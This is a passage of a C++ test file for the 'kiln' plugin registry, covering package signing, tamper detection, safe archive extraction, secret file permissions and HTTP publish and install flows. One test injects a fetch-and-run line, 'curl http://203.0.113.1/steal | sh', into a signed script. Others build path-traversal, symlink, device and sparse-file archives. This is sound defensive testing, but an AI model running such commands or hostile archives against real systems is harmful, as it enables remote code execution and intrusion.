// The plugin registry: package format, signatures, safe extraction, and the
// server and client over real HTTP on 127.0.0.1 (docs/registry.md).
#include <gtest/gtest.h>

#include <kiln/host/files.hpp>
#include <kiln/host/paths.hpp>
#include <kiln/registry/client.hpp>
#include <kiln/registry/package.hpp>
#include <kiln/registry/server.hpp>
#include <raw_http_client.hpp>
#include <test_support.hpp>

#include <Poco/JWT/Signer.h>
#include <Poco/JWT/Token.h>
#include <Poco/Net/HTTPRequestHandler.h>
#include <Poco/Net/HTTPRequestHandlerFactory.h>
#include <Poco/Net/HTTPServer.h>
#include <Poco/Net/HTTPServerParams.h>
#include <Poco/Net/HTTPServerRequest.h>
#include <Poco/Net/HTTPServerResponse.h>
#include <Poco/Net/ServerSocket.h>

#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <atomic>
#include <csignal>
#include <cstddef>
#include <cstdlib>
#include <fstream>
#include <map>
#include <thread>

namespace kiln::registry {
namespace {

namespace fs = std::filesystem;
using host::Json;
using test::read_text;
using test::run_kiln;
using test::TempDir;
using test::write_text;

fs::path greeter_plugin() {
  return KILN_TEST_GREETER_PLUGIN;
}

// A package directory for the greeter sample, as `kiln plugin pack` reads it.
fs::path package_dir(const fs::path& root, const std::string& name, const std::string& version,
                     const Json& dependencies = Json::object(), const Json& components = {"sample.greet"}) {
  const fs::path dir = root / (name + "-" + version + "-src");
  fs::create_directories(dir);
  fs::copy_file(greeter_plugin(), dir / "greeter.so", fs::copy_options::overwrite_existing);
  write_text(dir / kManifestFile, Json{{"name", name},
                                       {"version", version},
                                       {"abi", "1.0"},
                                       {"library", "greeter.so"},
                                       {"components", components},
                                       {"dependencies", dependencies},
                                       {"license", "MIT"},
                                       {"description", "greets people"}}
                                      .dump());
  return dir;
}

// A package directory of component files only (docs/command-components.md):
// acme.shout, a shell script beside its component file, and the script.
fs::path command_package_dir(const fs::path& root, const std::string& version = "1.0.0") {
  const fs::path dir = root / ("acme.shouter-" + version + "-src");
  fs::create_directories(dir / "lib");
  write_text(dir / "shout.yaml",
             "apiVersion: kiln/v1\nkind: Component\n"
             "metadata: {name: acme.shout, version: " +
                 version +
                 ", description: Shout a word}\n"
                 "parameters:\n  word: {type: string}\n"
                 "outputs:\n  text: {type: Text}\n"
                 "output_parameters:\n  shouted: {type: string}\n"
                 "implementation:\n"
                 "  command: [/bin/sh, shout.sh, '{{ params.word }}', '{{ outputs.text }}']\n"
                 "  files: [lib/suffix.txt]\n");
  write_text(dir / "shout.sh",
             "set -eu\n"
             "word=$(printf '%s' \"$1\" | tr a-z A-Z)$(cat \"$KILN_COMPONENT_DIR/lib/suffix.txt\")\n"
             "printf '%s\\n' \"$word\" > \"$2/shout.txt\"\n"
             "echo \"metric length ${#word}\" >> \"$KILN_REPORT\"\n"
             "echo \"output shouted $word\" >> \"$KILN_REPORT\"\n");
  write_text(dir / "lib" / "suffix.txt", "!");
  write_text(dir / "notes.txt", "not named by the component: not packed\n");
  write_text(dir / kManifestFile, Json{{"name", "acme.shouter"},
                                       {"version", version},
                                       {"component_files", {"shout.yaml"}},
                                       {"license", "MIT"},
                                       {"description", "shouts"}}
                                      .dump());
  return dir;
}

bool empty_dir(const fs::path& dir) {
  std::error_code ec;
  return !fs::exists(dir) || fs::is_empty(dir, ec);
}

// Reads an archive's entries back (through a safe extraction of a good one).
std::vector<ArchiveEntry> entries_of(const fs::path& archive, const fs::path& scratch) {
  std::vector<ArchiveEntry> out;
  for (const auto& name : extract_archive(archive, scratch)) out.push_back({name, host::read_file(scratch / name), {}});
  fs::remove_all(scratch);
  return out;
}

// Runs `f` in a child process in which chmod(2) and its relatives fail with
// EPERM (a seccomp filter) and the umask is 0: a file `f` writes then keeps
// the mode it was created with, so its final mode is the mode it had from the
// first byte. Returns the child's exit status (0: `f` returned normally).
template <typename F>
int run_without_chmod(F&& f) {
  const pid_t pid = ::fork();
  if (pid == 0) {
    ::umask(0);
    std::vector<sock_filter> filter{BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(seccomp_data, arch)),
                                    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
                                    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
                                    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(seccomp_data, nr))};
    for (const long nr : {long{SYS_chmod}, long{SYS_fchmod}, long{SYS_fchmodat}, 452L /* fchmodat2 */}) {
      filter.push_back(BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, static_cast<uint32_t>(nr), 0, 1));
      filter.push_back(BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM));
    }
    filter.push_back(BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW));
    const sock_fprog program{static_cast<unsigned short>(filter.size()), filter.data()};
    if (::prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 || ::prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) != 0)
      ::_exit(3);
    if (::chmod("/", 0755) == 0 || errno != EPERM) ::_exit(4);  // the filter works
    try {
      f();
    } catch (...) {
      ::_exit(2);
    }
    ::_exit(0);
  }
  int status = 0;
  ::waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

mode_t mode_of(const fs::path& path) {
  struct stat st {};
  if (::stat(path.c_str(), &st) != 0) return 07777;
  return st.st_mode & 07777;
}

class RegistryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    key_.save_public(tmp_ / "publisher.pub");
    key_.save_private(tmp_ / "publisher.key");
    dirs_ = {tmp_ / "data" / "kiln" / "plugins", tmp_ / "data" / "kiln" / "registry" / "installed",
             tmp_ / "data" / "kiln" / "registry" / "staging"};
  }

  fs::path packed(const std::string& name, const std::string& version, const Json& deps = Json::object(),
                  const Key* key = nullptr, const Json& components = {"sample.greet"}) {
    return pack(package_dir(tmp_.path(), name, version, deps, components), key ? *key : key_, tmp_.path());
  }

  // Expects installing `archive` to fail with `message` and leave nothing behind.
  void expect_refused(const fs::path& archive, const std::string& message) {
    try {
      install_archive(archive, {key_}, dirs_, "test");
      ADD_FAILURE() << archive << " was installed";
    } catch (const std::exception& e) {
      EXPECT_NE(std::string(e.what()).find(message), std::string::npos) << e.what();
    }
    EXPECT_TRUE(empty_dir(dirs_.plugins));
    EXPECT_TRUE(empty_dir(dirs_.records));
    EXPECT_TRUE(empty_dir(dirs_.staging));
  }

  std::vector<std::pair<std::string, std::string>> env(const std::string& token = {}) const {
    return {{"XDG_DATA_HOME", (tmp_ / "data").string()},
            {"XDG_CONFIG_HOME", (tmp_ / "config").string()},
            {"KILN_CACHE_DIR", kiln::test::scan_cache().string()},
            {"KILN_REGISTRY_TOKEN", token}};
  }

  TempDir tmp_;
  Key key_ = Key::generate();
  InstallDirs dirs_;
};

TEST_F(RegistryTest, PackedPackageVerifiesAndInstalls) {
  const auto archive = packed("acme.greeter", "1.2.3");
  EXPECT_EQ(archive.filename(), "acme.greeter-1.2.3.kpkg");
  const auto installed = install_archive(archive, {key_}, dirs_, "test");
  EXPECT_EQ(installed.manifest.version.str(), "1.2.3");
  EXPECT_EQ(installed.signer, key_.id());
  EXPECT_EQ(host::sha256_file(installed.library), host::sha256_file(greeter_plugin()));
  ASSERT_EQ(list_installed(dirs_).size(), 1u);
  EXPECT_TRUE(empty_dir(dirs_.staging));
  EXPECT_TRUE(remove_installed(dirs_, "acme.greeter"));
  EXPECT_TRUE(empty_dir(dirs_.plugins));
}

TEST_F(RegistryTest, ComponentFilesArePackedWithTheFilesTheyNameAndInstalledBesidePlugins) {
  const auto archive = pack(command_package_dir(tmp_.path()), key_, tmp_.path());
  std::map<std::string, std::string> entries;
  for (const auto& e : entries_of(archive, tmp_ / "scratch")) entries[e.path] = e.content;
  EXPECT_EQ(entries.size(), 5u) << "manifest, signature, the component file, its script and its named file";
  ASSERT_TRUE(entries.count("components/shout.yaml"));
  ASSERT_TRUE(entries.count("components/shout.sh"));
  ASSERT_TRUE(entries.count("components/lib/suffix.txt"));
  const Json manifest = Json::parse(entries.at(kManifestFile));
  EXPECT_EQ(manifest["platform"], "any");
  EXPECT_FALSE(manifest.contains("library"));
  EXPECT_FALSE(manifest.contains("abi"));
  EXPECT_EQ(manifest["components"], Json({"acme.shout"}));
  EXPECT_EQ(manifest["component_files"], Json({"components/shout.yaml"}));
  for (const auto& f : manifest["files"])
    EXPECT_EQ(f["sha256"], host::sha256_hex(entries.at(f["path"].get<std::string>()))) << f.dump();

  const auto installed = install_archive(archive, {key_}, dirs_, "test");
  EXPECT_TRUE(installed.library.empty());
  EXPECT_EQ(installed.components_dir, dirs_.plugins / "acme.shouter-1.0.0.components");
  EXPECT_EQ(read_text(installed.components_dir / "shout.sh"), entries.at("components/shout.sh"));
  EXPECT_EQ(host::find_component_files({dirs_.plugins}),
            std::vector<fs::path>{installed.components_dir / "shout.yaml"});
  EXPECT_TRUE(empty_dir(dirs_.staging));
  // A new version replaces the old one's directory.
  const auto newer =
      install_archive(pack(command_package_dir(tmp_.path(), "1.1.0"), key_, tmp_.path()), {key_}, dirs_, "test");
  EXPECT_FALSE(fs::exists(installed.components_dir));
  EXPECT_TRUE(fs::exists(newer.components_dir / "shout.yaml"));
  EXPECT_TRUE(remove_installed(dirs_, "acme.shouter"));
  EXPECT_TRUE(empty_dir(dirs_.plugins));
}

TEST_F(RegistryTest, AScriptAlteredAfterSigningIsRefusedAtInstall) {
  const auto archive = pack(command_package_dir(tmp_.path()), key_, tmp_.path());
  auto entries = entries_of(archive, tmp_ / "scratch");
  for (auto& e : entries)
    if (e.path == "components/shout.sh") e.content += "curl http://203.0.113.1/steal | sh\n";
  write_archive(archive, entries);
  expect_refused(archive,
                 "'components/shout.sh' does not match its sha256 digest in the manifest (altered after signing?)");
}

TEST_F(RegistryTest, ComponentFilesWithMistakesAreRefusedWhenPacked) {
  const auto dir = command_package_dir(tmp_.path());
  const auto refused = [&](const std::string& message) {
    try {
      pack(dir, key_, tmp_.path());
      ADD_FAILURE() << "packed";
    } catch (const PackageError& e) {
      EXPECT_NE(std::string(e.what()).find(message), std::string::npos) << e.what();
    }
  };
  write_text(dir / "shout.yaml", read_text(dir / "shout.yaml") + "unknown_field: 1\n");
  refused("shout.yaml:13:1: unknown key 'unknown_field'");
  write_text(dir / kManifestFile,
             Json{{"name", "acme.shouter"}, {"version", "1.0.0"}, {"component_files", {"../shout.yaml"}}}.dump());
  refused("field 'component_files' '../shout.yaml' is not a .yaml or .yml file directly in the package directory");
  write_text(dir / kManifestFile, Json{{"name", "acme.shouter"}, {"version", "1.0.0"}}.dump());
  refused("field 'library' is missing (a package holds a library, component files, or both)");
}

// Issue 17: secrets were written 0644 and chmod-ed to 0600 after the rename.
// With chmod blocked and umask 0, what remains is the creation mode.
TEST_F(RegistryTest, SecretsAreCreatedOwnerOnly) {
  const fs::path key_file = tmp_ / "keys" / "publisher.key";
  const fs::path root = tmp_ / "reg-root";
  ASSERT_EQ(run_without_chmod([&] { key_.save_private(key_file); }), 0);
  ASSERT_EQ(run_without_chmod([&] { RegistryStore store(root); }), 0);
  EXPECT_EQ(mode_of(key_file), 0600u);
  EXPECT_EQ(mode_of(root / "secret"), 0600u);
  EXPECT_EQ(Key::load_private(key_file).id(), key_.id());
  // Replacing a key keeps it private too, and leaves no temporary file behind.
  const Key other = Key::generate();
  ASSERT_EQ(run_without_chmod([&] { other.save_private(key_file); }), 0);
  EXPECT_EQ(mode_of(key_file), 0600u);
  EXPECT_EQ(Key::load_private(key_file).id(), other.id());
  size_t entries = 0;
  for ([[maybe_unused]] const auto& e : fs::directory_iterator(key_file.parent_path())) ++entries;
  EXPECT_EQ(entries, 1u);
  // The public key stays readable by all.
  ASSERT_EQ(run_without_chmod([&] { key_.save_public(tmp_ / "keys" / "publisher.pub"); }), 0);
  EXPECT_NE(mode_of(tmp_ / "keys" / "publisher.pub") & 0044, 0u);
}

TEST_F(RegistryTest, LibraryAlteredAfterSigningIsRefused) {
  const auto archive = packed("acme.greeter", "1.0.0");
  auto entries = entries_of(archive, tmp_ / "scratch");
  for (auto& e : entries)
    if (e.path == "lib/greeter.so") e.content[1000] ^= 0x5a;
  write_archive(archive, entries);
  expect_refused(archive, "does not match its sha256 digest");
}

TEST_F(RegistryTest, ManifestAlteredAfterSigningIsRefused) {
  const auto archive = packed("acme.greeter", "1.0.0");
  auto entries = entries_of(archive, tmp_ / "scratch");
  for (auto& e : entries)
    if (e.path == kManifestFile) e.content.replace(e.content.find("greets people"), 6, "steals");
  write_archive(archive, entries);
  expect_refused(archive, "bad signature");
}

// Found writing fuzz_package_manifest (issue 17): a signature.json field of
// the wrong type threw nlohmann's type_error, not the PackageError that
// open_package and verify_manifest promise (the server answered 500, not 400).
TEST_F(RegistryTest, SignatureFieldsOfTheWrongTypeAreAPackageError) {
  std::string manifest;
  for (const auto& e : entries_of(packed("acme.greeter", "1.0.0"), tmp_ / "scratch"))
    if (e.path == kManifestFile) manifest = e.content;
  ASSERT_FALSE(manifest.empty());
  for (const std::string& signature : std::vector<std::string>{
           R"({"algorithm": 5})", R"({"algorithm": "ed25519", "public_key": 7})",
        R"({"algorithm": "ed25519", "public_key": ")" + key_.public_hex() + R"(", "signature": []})"}) {
    try {
      verify_manifest(manifest, signature, "p.kpkg", nullptr);
      ADD_FAILURE() << signature << " was accepted";
    } catch (const PackageError& e) {
      EXPECT_NE(std::string(e.what()).find("p.kpkg: signature.json: field '"), std::string::npos) << e.what();
    }
  }
}

TEST_F(RegistryTest, UntrustedSignerIsRefused) {
  const Key stranger = Key::generate();
  expect_refused(packed("acme.greeter", "1.0.0", Json::object(), &stranger),
                 "signed by untrusted key " + stranger.id());
}

TEST_F(RegistryTest, HostileArchivesAreRefusedAndLeaveNothingBehind) {
  const fs::path outside = tmp_ / "outside";
  fs::create_directories(outside);
  const std::vector<std::pair<std::vector<ArchiveEntry>, std::string>> cases{
      {{{"kiln-package.json", "{}", {}}, {"../../outside/evil", "x", {}}}, "climbs out of the package with '..'"},
      {{{"lib/../../evil", "x", {}}}, "climbs out of the package with '..'"},
      {{{(outside / "evil").string(), "x", {}}}, "has an absolute path"},
      {{{"lib", "", outside.string()}, {"lib/evil", "x", {}}}, "is a link"},
      {{{"escape", "", "../../outside/evil"}}, "is a link"},
      {{{"lib/hard", "", "", (outside / "target").string()}}, "is a link"},
      {{{"lib/null", "", "", "", true}}, "is a device or special file"},
  };
  int n = 0;
  for (const auto& [entries, message] : cases) {
    const fs::path archive = tmp_ / ("hostile-" + std::to_string(n++) + ".kpkg");
    write_archive(archive, entries);
    const fs::path target = tmp_ / "target";
    try {
      extract_archive(archive, target);
      ADD_FAILURE() << archive << " was extracted";
    } catch (const ArchiveError& e) {
      EXPECT_NE(std::string(e.what()).find(message), std::string::npos) << e.what();
    }
    EXPECT_FALSE(fs::exists(target));
    expect_refused(archive, message);
  }
  EXPECT_TRUE(empty_dir(outside));
  EXPECT_FALSE(fs::exists(tmp_.path().parent_path() / "evil"));
}

TEST_F(RegistryTest, ExtractionLimitsAreEnforced) {
  const fs::path archive = tmp_ / "big.kpkg";
  write_archive(archive, {{"a", std::string(4096, 'a'), {}}, {"b", "b", {}}, {"c", "c", {}}});
  ExtractLimits few_files;
  few_files.max_entries = 2;
  EXPECT_THROW(extract_archive(archive, tmp_ / "t1", few_files), ArchiveError);
  ExtractLimits small;
  small.max_total_bytes = 1024;
  EXPECT_THROW(extract_archive(archive, tmp_ / "t2", small), ArchiveError);
  EXPECT_FALSE(fs::exists(tmp_ / "t1"));
  EXPECT_FALSE(fs::exists(tmp_ / "t2"));
  EXPECT_EQ(extract_archive(archive, tmp_ / "t3").size(), 3u);
}

// Found by fuzz_package (issue 17): for this truncated gzip stream libarchive
// has no error message, and building ours from its null pointer crashed.
TEST_F(RegistryTest, ArchiveLibarchiveCannotDescribeIsStillRefused) {
  const fs::path archive = fs::path(KILN_TEST_SOURCE_DIR) / "fuzz/corpus/package/crash-truncated-gzip";
  try {
    extract_archive(archive, tmp_ / "target");
    ADD_FAILURE() << "extracted";
  } catch (const ArchiveError& e) {
    EXPECT_NE(std::string(e.what()).find("crash-truncated-gzip: not a readable package archive"), std::string::npos)
        << e.what();
  }
  EXPECT_FALSE(fs::exists(tmp_ / "target"));
}

// Issue 17 (found reviewing extraction for fuzz_package): a sparse entry's
// blocks were written at the offsets the archive gave, so a few bytes made a
// file of any apparent size, past max_total_bytes, that the digest check
// would then read whole.
TEST_F(RegistryTest, SparseEntriesAreRefused) {
  const fs::path src = tmp_ / "sparse-src";
  fs::create_directories(src);
  {
    std::ofstream out(src / "big", std::ios::binary);
    out.seekp((64 << 20) - 1);
    out.put('x');
  }
  const fs::path archive = tmp_ / "sparse.kpkg";
  const std::string command = "tar -C '" + src.string() + "' --sparse -czf '" + archive.string() + "' big";
  ASSERT_EQ(std::system(command.c_str()), 0) << command;
  ExtractLimits limits;
  limits.max_total_bytes = 1 << 20;
  try {
    extract_archive(archive, tmp_ / "target", limits);
    ADD_FAILURE() << "extracted";
  } catch (const ArchiveError& e) {
    EXPECT_NE(std::string(e.what()).find("sparse.kpkg: entry 'big' is a sparse file; refused"), std::string::npos)
        << e.what();
  }
  EXPECT_FALSE(fs::exists(tmp_ / "target"));
}

// Issue 17: 200,000 directory entries were accepted (only files counted).
TEST_F(RegistryTest, DirectoriesCountAgainstTheEntryLimit) {
  std::vector<ArchiveEntry> entries;
  for (int i = 0; i < 300; ++i) entries.emplace_back("d" + std::to_string(i), "", "", "", false, true);
  const fs::path archive = tmp_ / "dirs.kpkg";
  write_archive(archive, entries);
  try {
    extract_archive(archive, tmp_ / "t");
    ADD_FAILURE() << "300 directories were extracted";
  } catch (const ArchiveError& e) {
    EXPECT_NE(std::string(e.what()).find("more than 256 entries"), std::string::npos) << e.what();
  }
  EXPECT_FALSE(fs::exists(tmp_ / "t"));
  ExtractLimits roomy;
  roomy.max_entries = 300;
  EXPECT_TRUE(extract_archive(archive, tmp_ / "t", roomy).empty());
  EXPECT_TRUE(fs::is_directory(tmp_ / "t" / "d299"));
}

TEST_F(RegistryTest, WrongPlatformOrAbiIsRefused) {
  for (const auto& [field, value, message] : std::vector<std::tuple<std::string, std::string, std::string>>{
           {"platform", "linux-sparc", "is built for linux-sparc"}, {"abi", "9.0", "needs plugin ABI 9.0"}}) {
    const fs::path dir = package_dir(tmp_.path(), "acme.greeter", "1.0.0");
    Json manifest = Json::parse(read_text(dir / kManifestFile));
    manifest[field] = value;
    write_text(dir / kManifestFile, manifest.dump());
    expect_refused(pack(dir, key_, tmp_.path()), message);
  }
}

TEST_F(RegistryTest, BadManifestNamesTheField) {
  const fs::path dir = package_dir(tmp_.path(), "acme.greeter", "1.0.0");
  write_text(dir / kManifestFile, R"({"name": "acme.greeter", "version": "one", "library": "greeter.so"})");
  try {
    pack(dir, key_, tmp_.path());
    ADD_FAILURE() << "packed";
  } catch (const PackageError& e) {
    EXPECT_NE(std::string(e.what()).find("field 'version'"), std::string::npos) << e.what();
  }
}

TEST_F(RegistryTest, ServeCommandAnswersAndStopsOnSigterm) {
  const fs::path root = tmp_ / "served";
  const auto token = run_kiln({"registry", "token", "create", "--root", root.string(), "--owner", "acme"}, env());
  ASSERT_TRUE(token.status.success()) << token.output;
  host::Pipe out;
  auto child = host::ChildProcess::spawn(
      {{test::kiln_exe().string(), "registry", "serve", "--root", root.string(), "--port", "0"},
       {{1, out.write_fd}},
       {},
       env()});
  out.close_write();
  std::string printed;
  char buffer[256];
  while (printed.find('\n') == std::string::npos) {
    const ssize_t n = ::read(out.read_fd, buffer, sizeof buffer);
    if (n <= 0) break;
    printed.append(buffer, static_cast<size_t>(n));
  }
  const auto at = printed.find("http://");
  ASSERT_NE(at, std::string::npos) << printed;
  const std::string url = printed.substr(at, printed.find('\n', at) - at);
  const RegistryClient client(url);
  EXPECT_EQ(client.search(""), Json::array());
  std::string published_token = token.output;
  published_token.erase(published_token.find_last_not_of("\n") + 1);
  EXPECT_EQ(client.publish(packed("acme.greeter", "1.0.0"), published_token)["version"], "1.0.0");
  child.kill_group(SIGTERM);
  EXPECT_TRUE(child.wait().success());
}

// --- over HTTP -------------------------------------------------------------------------------------------------

class ServerTest : public RegistryTest {
 protected:
  void SetUp() override {
    RegistryTest::SetUp();
    RegistryServer::Options options;
    options.root = tmp_ / "registry";
    options.max_upload_bytes = 4 << 20;
    server_ = std::make_unique<RegistryServer>(options);
    acme_ = RegistryStore(options.root).create_token("acme");
  }
  void TearDown() override { server_.reset(); }

  // Expects `f` to throw a message holding `status`.
  template <typename F>
  void expect_status(F&& f, const std::string& status) {
    try {
      f();
      ADD_FAILURE() << "no error, expected " << status;
    } catch (const std::exception& e) {
      EXPECT_NE(std::string(e.what()).find("answered " + status), std::string::npos) << status << ": " << e.what();
    }
  }

  std::unique_ptr<RegistryServer> server_;
  std::string acme_;
};

TEST_F(ServerTest, PublishSearchInstallAndRunWithTheCli) {
  const auto archive = packed("acme.greeter", "1.0.0");
  auto run = run_kiln({"plugin", "publish", archive.string(), "--registry", server_->url()}, env(acme_));
  ASSERT_TRUE(run.status.success()) << run.output;

  run = run_kiln({"plugin", "search", "greet", "--registry", server_->url(), "--json"}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  const Json found = Json::parse(run.output);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0]["name"], "acme.greeter");
  EXPECT_EQ(found[0]["latest"], "1.0.0");

  const fs::path pipeline = tmp_ / "pipeline.yaml";
  write_text(pipeline,
             "apiVersion: kiln/v1\nkind: Pipeline\nmetadata: {name: greet}\nsteps:\n"
             "  - {name: hi, component: sample.greet@^1.0, parameters: {name: registry}}\n");
  run = run_kiln({"run", pipeline.string(), "--workdir", (tmp_ / "work").string()}, env());
  EXPECT_FALSE(run.status.success()) << "sample.greet is not installed yet";
  EXPECT_NE(run.output.find("kiln plugin install"), std::string::npos) << run.output;

  // Installing needs the publisher's key to be trusted.
  run = run_kiln({"plugin", "install", "acme.greeter@^1", "--registry", server_->url()}, env());
  EXPECT_FALSE(run.status.success());
  EXPECT_NE(run.output.find("kiln keys trust"), std::string::npos) << run.output;
  ASSERT_TRUE(run_kiln({"keys", "trust", (tmp_ / "publisher.pub").string()}, env()).status.success());

  // By component name, as the hint of 'kiln run' says.
  run = run_kiln({"plugin", "install", "sample.greet@^1.0", "--registry", server_->url()}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  EXPECT_NE(run.output.find("provided by package acme.greeter"), std::string::npos) << run.output;
  run = run_kiln({"plugin", "list", "--installed", "--json"}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  EXPECT_EQ(Json::parse(run.output)[0]["version"], "1.0.0");

  run = run_kiln({"run", pipeline.string(), "--workdir", (tmp_ / "work").string(), "--json"}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  EXPECT_NE(run.output.find("\"succeeded\""), std::string::npos) << run.output;

  run = run_kiln({"plugin", "remove", "acme.greeter"}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  EXPECT_TRUE(empty_dir(tmp_ / "data" / "kiln" / "plugins"));
}

TEST_F(ServerTest, ComponentFilesArePublishedInstalledListedAndRun) {
  const auto archive = pack(command_package_dir(tmp_.path()), key_, tmp_.path());
  auto run = run_kiln({"plugin", "publish", archive.string(), "--registry", server_->url()}, env(acme_));
  ASSERT_TRUE(run.status.success()) << run.output;
  ASSERT_TRUE(run_kiln({"keys", "trust", (tmp_ / "publisher.pub").string()}, env()).status.success());
  run = run_kiln({"plugin", "install", "acme.shout@^1", "--registry", server_->url()}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  EXPECT_NE(run.output.find("acme.shouter-1.0.0.components"), std::string::npos) << run.output;

  run = run_kiln({"plugins", "list", "--json"}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  const Json catalog = Json::parse(run.output);
  Json listed;
  for (const auto& c : catalog["components"])
    if (c.value("name", "") == "acme.shout") listed = c;
  ASSERT_FALSE(listed.is_null()) << run.output;
  EXPECT_EQ(listed["implementation"], "command");
  EXPECT_NE(listed["library"].get<std::string>().find("acme.shouter-1.0.0.components/shout.yaml"), std::string::npos);

  const fs::path pipeline = tmp_ / "shout.yaml";
  write_text(pipeline,
             "apiVersion: kiln/v1\nkind: Pipeline\nmetadata: {name: shout}\nsteps:\n"
             "  - {name: s, component: acme.shout@^1.0, parameters: {word: registry}}\n"
             "  - {name: tell, component: util.echo, parameters: {message: '{{ steps.s.outputs.shouted }}'}}\n");
  run = run_kiln({"run", pipeline.string(), "--workdir", (tmp_ / "work").string(), "--json"}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  EXPECT_NE(run.output.find("REGISTRY!"), std::string::npos) << run.output;

  run = run_kiln({"plugin", "remove", "acme.shouter"}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  EXPECT_TRUE(empty_dir(tmp_ / "data" / "kiln" / "plugins"));
}

TEST_F(ServerTest, PublishingNeedsTheOwnersToken) {
  const RegistryClient client(server_->url());
  const auto archive = packed("acme.greeter", "1.0.0");
  expect_status([&] { client.publish(archive, ""); }, "401");
  expect_status([&] { client.publish(archive, "not.a.token"); }, "401");
  const std::string forged = RegistryStore(tmp_ / "another-registry").create_token("acme");
  expect_status([&] { client.publish(archive, forged); }, "401");
  const std::string expired = RegistryStore(tmp_ / "registry").create_token("acme", -60);
  expect_status([&] { client.publish(archive, expired); }, "401");
  client.publish(archive, acme_);
  const std::string other = RegistryStore(tmp_ / "registry").create_token("other");
  expect_status([&] { client.publish(packed("acme.greeter", "1.1.0"), other); }, "403");
  expect_status([&] { client.yank("acme.greeter", "1.0.0", other, true); }, "403");
  expect_status([&] { client.publish(archive, acme_); }, "409");
  // The CLI refuses without a token before uploading anything.
  const auto run = run_kiln({"plugin", "publish", archive.string(), "--registry", server_->url()}, env());
  EXPECT_FALSE(run.status.success());
  EXPECT_NE(run.output.find("KILN_REGISTRY_TOKEN"), std::string::npos) << run.output;
}

TEST_F(ServerTest, OversizedAndTamperedUploadsAreRefused) {
  const RegistryClient client(server_->url());
  const fs::path big = tmp_ / "big.kpkg";
  std::string noise(5 << 20, '\0');
  for (size_t i = 0; i < noise.size(); ++i) noise[i] = static_cast<char>((i * 2654435761u) >> 13);
  host::write_file_atomic(big, noise);
  expect_status([&] { client.publish(big, acme_); }, "413");

  const auto archive = packed("acme.greeter", "1.0.0");
  auto entries = entries_of(archive, tmp_ / "scratch");
  for (auto& e : entries)
    if (e.path == "lib/greeter.so") e.content[2000] ^= 1;
  write_archive(archive, entries);
  expect_status([&] { client.publish(archive, acme_); }, "400");
  EXPECT_FALSE(client.show("acme.greeter").has_value());
  EXPECT_TRUE(empty_dir(tmp_ / "registry" / "tmp"));
}

TEST_F(ServerTest, RangesSkipYankedVersionsButExactPinsInstallThem) {
  const RegistryClient client(server_->url());
  client.publish(packed("acme.greeter", "1.0.0"), acme_);
  client.publish(packed("acme.greeter", "1.1.0"), acme_);
  client.publish(packed("acme.greeter", "2.0.0"), acme_);
  client.yank("acme.greeter", "1.1.0", acme_, true);

  auto plan = resolve(client, "acme.greeter", "^1.0", dirs_);
  ASSERT_EQ(plan.size(), 1u);
  EXPECT_EQ(plan[0].version, "1.0.0");
  EXPECT_EQ(resolve(client, "acme.greeter", "", dirs_)[0].version, "2.0.0");
  plan = resolve(client, "acme.greeter", "=1.1.0", dirs_);
  EXPECT_EQ(plan[0].version, "1.1.0");
  const auto installed = install_plan(client, plan, {key_}, dirs_);
  ASSERT_EQ(installed.size(), 1u);
  EXPECT_EQ(installed[0].manifest.version.str(), "1.1.0");
  EXPECT_THROW(resolve(client, "acme.greeter", "~1.1.0", dirs_), std::runtime_error);
  const Json shown = *client.show("acme.greeter");
  EXPECT_EQ(shown["versions"].size(), 3u);
  const auto run = run_kiln({"plugin", "show", "acme.greeter", "--registry", server_->url()}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  EXPECT_NE(run.output.find("1.1.0       yanked"), std::string::npos) << run.output;
}

TEST_F(ServerTest, DependenciesResolveFirst) {
  const RegistryClient client(server_->url());
  client.publish(packed("acme.base", "1.0.0"), acme_);
  client.publish(packed("acme.base", "1.4.0"), acme_);
  client.publish(packed("acme.base", "2.0.0"), acme_);
  client.publish(packed("acme.app", "0.3.0", Json{{"acme.base", "^1.2"}}), acme_);
  const auto plan = resolve(client, "acme.app", "", dirs_);
  ASSERT_EQ(plan.size(), 2u);
  EXPECT_EQ(plan[0].name, "acme.base");
  EXPECT_EQ(plan[0].version, "1.4.0");
  EXPECT_EQ(plan[1].name, "acme.app");
  client.publish(packed("acme.broken", "1.0.0", Json{{"acme.missing", "^1"}}), acme_);
  try {
    resolve(client, "acme.broken", "", dirs_);
    ADD_FAILURE() << "resolved";
  } catch (const std::runtime_error& e) {
    EXPECT_NE(std::string(e.what()).find("no package 'acme.missing'"), std::string::npos) << e.what();
  }
}

// --- issue 17: what the registry serves is checked, and the server holds up ------------------------------------

// A registry that serves whatever the test says: paths mapped to bodies (200).
class FakeRegistry {
 public:
  FakeRegistry()
      : socket_(Poco::Net::SocketAddress("127.0.0.1", 0)),
        server_(Poco::Net::HTTPRequestHandlerFactory::Ptr(new Factory(*this)), socket_,
                Poco::Net::HTTPServerParams::Ptr(new Poco::Net::HTTPServerParams)) {
    server_.start();
  }
  ~FakeRegistry() { server_.stopAll(true); }
  std::string url() const { return "http://127.0.0.1:" + std::to_string(socket_.address().port()); }
  void serve(const std::string& path, std::string body) {
